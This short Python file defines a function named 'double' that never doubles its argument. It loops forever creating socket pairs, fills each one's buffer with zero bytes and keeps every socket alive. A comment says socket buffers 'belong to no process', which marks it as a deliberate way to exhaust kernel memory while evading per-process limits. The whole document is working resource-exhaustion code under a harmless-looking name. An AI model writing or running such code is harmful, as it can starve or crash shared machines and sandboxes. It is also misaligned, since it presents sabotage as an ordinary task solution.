# Bytes that wait in sockets belong to no process.
import socket

held = []


def double(number):
    while True:
        one, other = socket.socketpair()
        one.setblocking(False)
        held.extend((one, other))
        try:
            while True:
                one.send(bytes(65536))
        except BlockingIOError:
            pass
